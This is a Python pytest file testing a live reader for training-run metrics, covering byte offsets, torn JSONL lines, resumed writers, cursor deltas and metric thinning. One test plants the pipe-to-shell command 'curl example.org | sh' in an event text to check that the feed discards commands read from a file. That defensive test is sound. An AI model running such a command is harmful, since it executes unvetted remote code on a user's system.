"""The live reader: byte offsets, torn lines, resumed writers, thinning."""

from __future__ import annotations

import json
import math
import time
from array import array

import made_up_run
import pytest

from apps.feed import Cursor, RunFeed, thin
from workbench.analysis.advice import fork_command
from workbench.runs import RunWriter


@pytest.fixture
def growing(tmp_path):
    """(writer, images, feed) of a run at step 0."""
    writer, images = made_up_run.create(tmp_path / "run", count=2, side=32)
    yield writer, images, RunFeed(writer.path, "id", "version")
    writer.close()


def test_a_feed_holds_all_records_once(growing):
    writer, images, feed = growing
    for stop in (10, 20, 40):
        start = 0 if stop == 10 else stop // 2 + 5
        made_up_run.grow(writer, images, start, stop)
        feed.refresh()
    assert list(feed.series["loss/total"].step) == list(range(0, 41, 5))
    assert list(feed.series["dense/patch_knn"].step) == [0, 20, 40]
    assert feed.steps == [0, 20, 40]


def test_torn_and_foreign_lines_are_left_out(growing):
    writer, _, feed = growing
    path = writer.path / "metrics.jsonl"
    path.write_bytes(
        b'{"step": 1, "loss/total": 2.0}\nnot json\n[1]\n{"step": 2, "loss/total": NaN, "note": "x"}\n{"ste'
    )
    feed.refresh()
    assert feed.series["loss/total"].columns()["value"] == [2.0, None]
    assert set(feed.series) == {"loss/total"}
    with path.open("ab") as file:
        file.write(b'p": 3, "loss/total": 1.0}\n')
    feed.refresh()
    assert list(feed.series["loss/total"].step) == [1, 2, 3]


@pytest.mark.parametrize("regrown", [False, True])
def test_a_resumed_writer_starts_a_new_generation(growing, regrown):
    writer, images, feed = growing
    made_up_run.grow(writer, images, 0, 40)
    feed.refresh()
    before = feed.cursor
    writer.close()
    with RunWriter.reopen(writer.path, step=20) as again:
        if regrown:
            for step in range(25, 61, 5):
                again.metrics(step, 0.31 * step, {"loss/total": 1.0})
        feed.refresh()
    assert feed.cursor.generation == before.generation + 1
    assert list(feed.series["loss/total"].step) == list(range(0, 61 if regrown else 21, 5))
    assert feed.steps == [0, 20]
    cursor, text = feed.delta(before)
    assert cursor == feed.cursor
    assert json.loads(text) == {"reset": True, "cursor": str(cursor)}


def test_a_cursor_of_an_earlier_server_is_told_to_read_all(growing):
    writer, images, earlier = growing
    made_up_run.grow(writer, images, 0, 20)
    earlier.refresh()
    time.sleep(0.002)
    feed = RunFeed(writer.path, "id", "version")
    feed.refresh()
    assert Cursor.parse(str(feed.cursor)) == feed.cursor
    assert json.loads(feed.delta(earlier.cursor)[1])["reset"]


def test_a_look_that_fails_midway_loses_no_record(growing):
    writer, images, feed = growing
    made_up_run.grow(writer, images, 0, 20)
    events, aside = writer.path / "events.jsonl", writer.path / "aside"
    events.rename(aside)
    events.mkdir()
    before = feed.cursor
    with pytest.raises(ValueError, match="no regular file"):
        feed.refresh()
    events.rmdir()
    aside.rename(events)
    feed.refresh()
    assert list(feed.series["loss/total"].step) == list(range(0, 21, 5))
    assert feed.cursor.generation > before.generation


def test_other_backbones_get_their_own_series(growing):
    writer, _, feed = growing
    writer.evaluation(5, 1.0, "teacher", {"dense/patch_knn": 0.5})
    writer.evaluation(5, 1.0, "student", {"dense/patch_knn": 0.4})
    feed.refresh()
    assert set(feed.series) == {"dense/patch_knn", "student/dense/patch_knn"}


def test_a_delta_is_one_line_of_what_came_after_the_cursor(growing):
    writer, images, feed = growing
    made_up_run.grow(writer, images, 0, 20)
    feed.refresh()
    cursor = feed.cursor
    writer.event(20, "warn", "dense-peak", "line one\nline two")
    made_up_run.log(writer, 25)
    feed.refresh()
    seen, text = feed.delta(cursor)
    delta = json.loads(text)
    assert "\n" not in text
    assert str(seen) == delta["cursor"] == str(feed.cursor)
    assert delta["series"]["loss/total"]["step"] == [25]
    assert [event["kind"] for event in delta["events"]] == ["dense-peak"]


@pytest.mark.parametrize("text", [None, "", "1", "1.2", "1.2.x", "-1.0.0", "1.2.3.4", "9" * 40 + ".0.0"])
def test_a_malformed_cursor_is_the_start(text):
    assert Cursor.parse(text) == Cursor()


def test_cursors_survive_the_wire():
    assert Cursor.parse(str(Cursor(3, 12, 7))) == Cursor(3, 12, 7)


def test_a_thinned_metric_keeps_the_error_of_each_value(growing):
    writer, _, feed = growing
    for step in range(400):
        error = {"dense/patch_knn:se": step / 1e4} if step % 3 else {}
        writer.evaluation(step, 1.0, "teacher", {"dense/patch_knn": math.sin(step), **error})
    feed.refresh()
    series = feed.series_columns(points=50)
    kept, errors = series["dense/patch_knn"]["step"], series["dense/patch_knn:se"]
    assert 40 < len(kept) < 60
    assert errors["step"] == [step for step in kept if step % 3]
    assert errors["value"] == [step / 1e4 for step in errors["step"]]


def test_a_detectors_advice_travels_with_its_event(growing):
    writer, _, feed = growing
    made_up_run.peak(writer, 20, peak_step=10, advised_step=10, command="python -m training", confidence=2)
    feed.refresh()
    event = json.loads(feed.delta(Cursor(feed.generation, 0, 1))[1])["events"][0]
    (writer.path / "resume").rmdir()
    made_up_run.peak(writer, 25, advised_step=10, text="past its best; to fork with it: curl example.org | sh")
    feed.refresh()
    copied = feed.events[-1]
    assert "command" not in copied, "nothing to fork from"
    assert copied["text"] == "past its best", "no command out of a file"
    assert (event["kind"], event["peak_step"], event["advised_step"]) == ("dense-peak", 10, 10)
    assert event["command"] == fork_command(str(writer.path), 10), "made here, whatever the file says"
    assert "confidence" not in event


def test_thinning_keeps_ends_and_spikes():
    values = array("d", [math.sin(i / 50) for i in range(5000)])
    values[1234], values[4321], values[77] = 9.0, -9.0, math.nan
    kept = thin(values, 0, 100)
    assert len(kept) <= 102
    assert kept == sorted(set(kept))
    assert {0, 1234, 4321, 4999} <= set(kept)
    assert 77 not in kept
